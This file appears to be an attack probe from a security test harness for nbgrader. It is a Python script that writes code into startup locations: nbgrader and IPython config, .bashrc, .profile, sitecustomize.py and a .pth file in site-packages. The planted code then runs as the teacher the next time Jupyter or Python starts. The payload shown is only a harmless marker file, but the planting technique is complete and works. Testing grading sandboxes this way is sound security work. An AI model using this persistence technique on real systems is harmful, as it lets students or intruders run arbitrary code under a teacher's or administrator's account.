"""Plants code where Jupyter, IPython, nbgrader and Python look when they start.

Stock nbgrader: the code runs as the teacher the next time, inside nbgrader itself.
"""

NAMED = ".jupyter"
EVERY_LAB = True

import site
from pathlib import Path

PLANTED = "open('/tmp/planted', 'w').write('ran as the teacher')\n"
for home in (TEACHERS_HOME, str(Path.home())):
    for place in (".jupyter/nbgrader_config.py", ".ipython/profile_default/startup/00.py", ".bashrc", ".profile"):
        try:
            target = Path(home, place)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(PLANTED)
        except OSError as problem:
            print(problem)
for folder in (site.getusersitepackages(), *site.getsitepackages()):
    try:
        Path(folder).mkdir(parents=True, exist_ok=True)
        Path(folder, "sitecustomize.py").write_text(PLANTED)
        Path(folder, "planted.pth").write_text("import sitecustomize\n")
    except OSError as problem:
        print(problem)
